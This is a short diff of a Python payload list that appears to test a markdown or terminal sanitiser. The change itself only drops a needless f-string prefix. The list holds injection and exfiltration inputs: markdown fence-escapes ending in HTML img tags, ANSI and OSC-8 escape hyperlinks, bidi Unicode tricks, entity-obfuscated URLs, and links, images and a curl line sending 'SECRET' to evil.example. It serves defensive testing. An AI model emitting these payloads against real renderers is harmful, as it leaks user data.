@@ -60,7 +60,7 @@ PAYLOADS = [
     "> ```\n> x\n<img src=x>", "text\n    ```\n<img src=x>", "2. a\n\n    ```\n    x\n<img src=x>", "~~~\nx\n~~~~\n<img src=x>", "````\n```\n````\n<img src=x>",
     "```\n   ```` x\n```\n<img src=x>", "<b>~~~\n```\n~~~\n<img src=x>", "&#126;~~\n```\n~~~\n<img src=x>", "``` `x`\n<img src=x>\n```", "\x1b[31mred\x1b[0m",
     f"\x1b]8;;{EVIL}\x1b\\open\x1b]8;;\x1b\\", "\x9b31m", "a\u202eb\u2066c", "\U000e0041\U000e0042", "&#x202e;abc", f"&#104;ttps://evil.example/?d=S {EVIL}",
-    f"https&#58;//evil.example/?d=SECRET", f"[x]({KNOWN}&d=SECRET)", f"{KNOWN}SECRET", "https://wiki.example.org.evil.example/?d=SECRET",
+    "https&#58;//evil.example/?d=SECRET", f"[x]({KNOWN}&d=SECRET)", f"{KNOWN}SECRET", "https://wiki.example.org.evil.example/?d=SECRET",
     f"$\\href{{{EVIL}}}{{x}}$", f"```mermaid\ngraph TD; a[<img src='{EVIL}'>]\n```", f"    {EVIL}", f"| a |\n|---|\n| ![x]({EVIL}) |", f"# ![x]({EVIL})", f"`{EVIL}`",
     f"```\ncurl {EVIL}\n```",
 ]  # fmt: skip
